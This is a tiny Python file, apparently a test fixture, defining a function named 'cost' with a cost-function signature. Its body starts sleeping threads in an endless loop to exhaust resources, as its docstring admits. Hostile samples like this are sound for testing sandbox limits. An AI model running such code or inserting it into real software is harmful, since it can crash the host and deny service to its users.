"""As many threads as can be had."""

import threading
import time

STARTED = []


def cost(predictions, y):
    while True:
        try:
            STARTED.append(threading.Thread(target=time.sleep, args=(1000,)))
            STARTED[-1].start()
        except RuntimeError:
            pass
